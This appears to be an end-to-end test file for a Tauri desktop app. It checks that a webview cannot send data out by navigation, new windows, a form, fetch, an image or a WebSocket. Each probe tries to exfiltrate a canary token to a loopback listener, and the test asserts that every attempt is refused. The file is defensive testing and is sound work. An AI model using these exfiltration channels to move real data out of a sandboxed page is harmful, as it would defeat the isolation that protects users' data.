// Issue 18, "Nothing may leave the window", in the real window: a script in the page points
// every way out it has at a loopback listener (navigation, new windows, a form, fetch, an
// image, a WebSocket). The listener must see no connection at all, and the window must stay on
// its page with the app still answering.
//
// Proving that nothing arrived without waiting a fixed time: every attempt is refused by one of
// two gates, and each gate leaves a trace we can wait for.
// - The CSP (fetch, image, form, WebSocket) refuses in the page, before the request is handed
//   to the network, and fires a `securitypolicyviolation` event.
// - The navigation and new-window handlers in Rust (location.href / assign, window.open, a
//   target=_blank link) refuse before WebKit loads anything, and log a line saying so.
// A request can only follow a decision to allow, so once the refusal of an attempt is seen, no
// request for it can come later. (One connection does not wait for any decision: WebKitGTK
// preconnects to a clicked link's server. That one is stopped by the webview's proxy to
// nowhere, see src-tauri/src/boundary.rs; without it this test saw a bare connection from the
// target=_blank click.) The test then makes one more round trip it knows completes (an IPC call
// from the page, a few animation frames, a same-origin hash navigation through the same
// navigation handler) to show the page is alive and was not unloading, and only then asserts
// that the listener counted zero connections. If a gate were missing, the wait for its trace
// fails at once when the listener sees a connection instead.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";

import { launchApp, saveScreenshot } from "./lib/app.mjs";
import { waitUntil } from "./lib/desktop.mjs";

let app;
let listener;
let target; // http://127.0.0.1:<port>
const connections = []; // every socket the listener accepted, as { at, first request line }
let upgrades = 0;
let pageUrl;

const pageOf = (url) => url.replace(/\/$/, "");

/** A canary the page "exfiltrates": if it reached the listener, the request line would show it. */
const CANARY = "zx_live_CANARY_LEAVING_THE_WINDOW_0001";

before(async () => {
  listener = createServer((request, response) => {
    connections.at(-1).request ??= `${request.method} ${request.url}`;
    response.end("reached");
  });
  // Counted at the socket level: even a connection that never sends a request counts.
  listener.on("connection", () => connections.push({ at: Date.now(), request: null }));
  listener.on("upgrade", (_request, socket) => {
    upgrades += 1;
    socket.destroy();
  });
  await new Promise((resolve) => listener.listen(0, "127.0.0.1", resolve));
  target = `http://127.0.0.1:${listener.address().port}`;

  app = await launchApp();
  const { session } = app;
  await session.waitFor('[data-testid="onboarding"]');
  // WebDriver answers `tauri://localhost`, the page `tauri://localhost/`: the same URL.
  pageUrl = pageOf(await session.cmd("GET", "/url"));
  // Collect the CSP's refusals as the page sees them.
  await session.execute(`
    window.__violations = [];
    document.addEventListener("securitypolicyviolation", (e) =>
      window.__violations.push({ uri: e.blockedURI, directive: e.effectiveDirective || e.violatedDirective }));
  `);
});

after(async () => {
  await app?.close();
  await new Promise((resolve) => (listener ? listener.close(resolve) : resolve()));
});

function logText() {
  const logs = join(app.home, "data", "ao.zexa.desktop", "logs");
  return readdirSync(logs)
    .map((name) => readFileSync(join(logs, name), "utf8"))
    .join("\n");
}

const count = (text, needle) => text.split(needle).length - 1;
const NAVIGATION_REFUSED = "navigation away from the app refused";
const NEW_WINDOW_REFUSED = "new window refused";

/** How many CSP refusals of `directive` the page has seen so far. */
async function violations(directive) {
  return app.session.execute("return window.__violations.filter((v) => v.directive.includes(arguments[0])).length", [directive]);
}

/**
 * Runs `attempt` (which sends something to `path` on the listener) and waits for its refusal:
 * `gate` is a CSP directive (a violation event for it; WebKit reports a cross-origin blocked URL
 * as its origin only, so refusals are counted per directive, one attempt at a time) or one of
 * the Rust handlers' log lines. A connection reaching the listener ends the wait at once: that
 * is the failure itself.
 */
async function refused(path, gate, attempt) {
  const isLog = gate === NAVIGATION_REFUSED || gate === NEW_WINDOW_REFUSED;
  const seen = () => (isLog ? count(logText(), gate) : violations(gate));
  const before = await seen();
  await attempt();
  await waitUntil(`the refusal of ${path} (${gate})`, async () => {
    assert.deepEqual(connections, [], `the listener was reached by ${path}`);
    return (await seen()) > before;
  });
  await stillOnItsPage();
  assert.deepEqual(connections, [], `the listener was reached by ${path}`);
  assert.equal(upgrades, 0, "no WebSocket upgrade");
}

/** The positive control: the page is the app's, it answers, and it did not start unloading. */
async function stillOnItsPage() {
  const { session } = app;
  const reply = await session.cmd("POST", "/execute/async", {
    script: `const done = arguments[arguments.length - 1];
      (async () => {
        const state = await window.__TAURI_INTERNALS__.invoke("get_app_state");
        for (let i = 0; i < 3; i++) await new Promise((r) => requestAnimationFrame(r));
        // A same-origin navigation goes through the same Rust handler, which must let it by.
        const hashed = new Promise((r) => addEventListener("hashchange", r, { once: true }));
        location.hash = "#boundary-" + Math.random().toString(36).slice(2);
        await hashed;
        history.replaceState(null, "", location.pathname + location.search);
        return { ipc: Array.isArray(state.profiles), href: location.href };
      })().then(done, (e) => done({ error: String(e) }));`,
    args: [],
  });
  assert.equal(reply.error, undefined, reply.error);
  assert.equal(reply.ipc, true, "the app's IPC still answers from the page");
  assert.equal(pageOf(reply.href), pageUrl, "the window is still on the app's page");
  assert.equal(pageOf(await app.session.cmd("GET", "/url")), pageUrl);
  assert.equal((await app.session.cmd("GET", "/window/handles")).length, 1, "no other window");
  await app.session.waitFor('[data-testid="onboarding"]');
}

/** Adds an element to the page for the user (WebDriver) to click: a real gesture. */
async function addClickable(html) {
  await app.session.execute(
    `document.getElementById("boundary-probe")?.remove();
     const holder = document.createElement("div");
     holder.id = "boundary-probe";
     holder.style.cssText = "position:fixed;top:0;left:0;z-index:1000;background:#fff";
     holder.innerHTML = arguments[0];
     document.body.append(holder);`,
    [html],
  );
  return app.session.find("#boundary-probe > *");
}

// The navigations run from a timer so that the WebDriver call returns before WebKit decides.
test("location.href to another origin is refused and the window stays", async () => {
  await refused("/nav", NAVIGATION_REFUSED, () =>
    app.session.execute(`setTimeout(() => { location.href = arguments[0]; }, 0)`, [`${target}/nav?k=${CANARY}`]),
  );
});

test("location.assign to another origin is refused", async () => {
  await refused("/assign", NAVIGATION_REFUSED, () =>
    app.session.execute(`setTimeout(() => location.assign(arguments[0]), 0)`, [`${target}/assign?k=${CANARY}`]),
  );
});

test("window.open from a click opens nothing", async () => {
  const button = await addClickable(`<button type="button" id="open-probe">open</button>`);
  await app.session.execute(
    `document.getElementById("open-probe").onclick = () => { window.__opened = window.open(arguments[0]); };`,
    [`${target}/open?k=${CANARY}`],
  );
  await refused("/open", NEW_WINDOW_REFUSED, () => button.click());
  assert.equal(await app.session.execute("return window.__opened === null"), true, "window.open gave the page no window");
});

test("a clicked target=_blank link opens nothing", async () => {
  const link = await addClickable(`<a href="${target}/blank?k=${CANARY}" target="_blank">blank</a>`);
  await refused("/blank", NEW_WINDOW_REFUSED, () => link.click());
});

test("a form POST to another origin is refused", async () => {
  await addClickable(`<form method="post" action="${target}/form"><input name="k" value="${CANARY}"></form>`);
  await refused("/form", "form-action", () => app.session.execute(`document.querySelector("#boundary-probe form").submit()`));
});

test("fetch, an image and a WebSocket to another origin are refused", async () => {
  await refused("/fetch", "connect-src", () =>
    app.session.execute(`fetch(arguments[0], { method: "POST", body: "k" }).catch(() => {})`, [`${target}/fetch?k=${CANARY}`]),
  );
  await refused("/img", "img-src", () =>
    app.session.execute(`const img = new Image(); img.src = arguments[0]; document.body.append(img);`, [`${target}/img?k=${CANARY}`]),
  );
  const ws = target.replace("http:", "ws:");
  await refused("/ws", "connect-src", () =>
    app.session.execute(`try { window.__ws = new WebSocket(arguments[0]); } catch (e) { window.__wsError = String(e); }`, [
      `${ws}/ws?k=${CANARY}`,
    ]),
  );
});

test("after every attempt the listener has seen nothing and the app is whole", async () => {
  await app.session.execute(`document.getElementById("boundary-probe")?.remove()`);
  await stillOnItsPage();
  await saveScreenshot(app.session, "window-boundary");
  assert.deepEqual(connections, []);
  assert.equal(upgrades, 0);
  assert.ok(!logText().includes(CANARY), "a refused URL is logged without its query");
});
